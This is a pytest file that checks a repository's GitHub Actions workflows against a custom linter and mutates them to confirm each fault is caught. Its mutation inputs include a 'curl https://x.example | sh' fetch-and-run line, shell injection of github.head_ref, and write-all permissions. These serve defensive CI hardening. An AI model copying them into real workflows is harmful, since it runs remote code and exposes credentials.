"""The workflows keep our rules, and each rule finds what breaks it."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from grader.submission import REPOSITORY
from grader.tests import runner, workflows

FOLDER = REPOSITORY / ".github/workflows"
OURS = {path.stem: path.read_text() for path in sorted(FOLDER.iterdir())}


CHECKOUT = "uses: actions/checkout@93cb6efe18208431cddfb8368fd83d5badbf9bfd # v5.0.1"


@pytest.mark.parametrize("name", OURS)
def test_our_workflows_keep_the_rules(name: str) -> None:
    assert list(workflows.faults(OURS[name])) == []


@pytest.mark.parametrize(
    "name, old, new, words",
    [
        ("grade", CHECKOUT, "uses: actions/checkout@v5", "pinned"),
        ("grade", CHECKOUT, '"uses": actions/checkout@v5', "pinned"),
        ("grade", " # v6.0.0", "", "pinned"),
        ("grade", "# v5.0.1", "# v4.2.2", "for Node 20"),
        ("grade", "actions/checkout@", "actions/check-out@", "nobody has looked at"),
        ("grade", "fetch-depth:", "fetch-dept:", "has no input fetch-dept"),
        ("grade", "contents: read", "contents: write", "only what follows"),
        ("grade", "permissions:\n  contents: read", "", "no list of permissions"),
        (
            "grade",
            "permissions:\n  contents: read",
            "permissions: write-all",
            "no list",
        ),
        ("grade", "  pull_request:\n", "  pull_request_target:\n", "may write"),
        ("grade", "persist-credentials: false", "clean: true", "credentials"),
        ("grade", "    timeout-minutes: 35\n", "", "timeout-minutes"),
        ("grade", "timeout-minutes: 35", "timeout-minutes: 360", "timeout-minutes"),
        ("grade", "timeout-minutes: 35", "timout-minutes: 60", "no key timout-minutes"),
        ("grade", "concurrency:", "defaults:", "no concurrency"),
        ("grade", "HEAD=../head", "HEAD=${{ github.head_ref }}", "not one call"),
        ("grade", "HEAD=../head", "HEAD=$HEAD", "not one call"),
        ("grade", "make -C base setup", "curl https://x.example | sh", "not one call"),
        ("grade", "make -C base setup", "make -C base a; make", "not one call"),
        ("grade", "make -C base setup", "make -C base stup", "no target stup"),
        ("grade", "base.sha }}", "base.sha || 'main' }}", "more than look up"),
        ("grade", "github.event.pull_request.number", "secrets.TOKEN", "a secret"),
        (
            "report",
            "path: base\n",
            "path: base\n          ref: x\n",
            "somebody else chose",
        ),
        ("grade", "github.event.pull", "github.evnt.pull", "nothing is known here as"),
        ("report", "run.id", "run.pull_requests", "nothing is known here as"),
        ("grade", "pull_request.number", "workflow_run.id", "nothing is known here as"),
        ("class", "${{ matrix.shard }}/", "${{ matrix.shards }}/", "as matrix.shards"),
        ("class", "&& !cancelled()", "&& !canceled()", "more than look up: !canceled"),
        ("class", "if: vars.SUB", "if: vars.SUM", "nothing is known here as vars.SUM"),
        ("class", "if: vars.SUBMISSIONS", "if: !canceled()", "cannot be read"),
        ("class", "needs: grade", "needs: grad", "a job that there is not: grad"),
        ("class", "0 4 * * 1", "* * 9", "no time of cron's"),
        ("class", "0 4 * * 1", "0 24 * * 1", "no time of cron's"),
        ("class", "fail-fast", "fail-first", "strategy has no key fail-first"),
        ("ci", "image: debian", "img: debian", "container has no key img"),
        ("ci", "cancel-in-progress", "cancel-progress", "concurrency has no key"),
        ("ci", "  push:", "  pushed:", "no event pushed"),
        ("ci", "branches:", "branch:", "push has no key branch"),
        ("report", "types: [completed]", "types: [complete]", "no type complete"),
        ("report", "workflows: [Grade]", "workflows: [Grades]", "is called Grades"),
        ("report", "actions: read", "action: read", "no permission action: read"),
        ("report", "actions: read", "actions: reed", "no permission actions: reed"),
        ("grade", "ubuntu-24.04", "ubuntu-24.40", "no machine is called"),
        ("report", "  comment:\n", "  comment:\n    permissions: write-all\n", "gives"),
    ],
)
def test_what_breaks_a_rule_is_found(name: str, old: str, new: str, words: str) -> None:
    assert old in OURS[name]
    found = list(workflows.faults(OURS[name].replace(old, new)))
    assert any(words in fault for fault in found), found


def test_make_lint_reads_the_workflows(tmp_path: Path) -> None:
    said = subprocess.run(
        ["make", "--dry-run", "lint"], cwd=REPOSITORY, capture_output=True, text=True
    ).stdout
    (line,) = [line for line in said.splitlines() if "grader.tests.workflows" in line]
    assert ".github/workflows/grade.yml" in line
    bad = tmp_path / "bad.yml"
    bad.write_text(OURS["grade"].replace("make -C base setup", "true"))
    done = subprocess.run(
        ["/usr/bin/python3", "-m", "grader.tests.workflows", str(bad)],
        cwd=REPOSITORY,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1
    assert done.stdout.startswith(f"{bad}: grade: a command is not one call")


CI = [
    step["run"]
    for job in runner.load(FOLDER / "ci.yml")["jobs"].values()
    for step in job["steps"]
    if "run" in step
]
# What takes no time where all is installed; of all else, that make knows how.
CHEAP = {"setup", "setup-test", "isolation", "grade"}


@pytest.mark.parametrize("command", sorted(set(CI)))
def test_each_step_of_ci_can_be_run(command: str) -> None:
    program, *words = command.split()
    asked = [program, *words] if CHEAP >= set(words) else [program, "-n", *words]
    done = subprocess.run(asked, cwd=REPOSITORY, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout
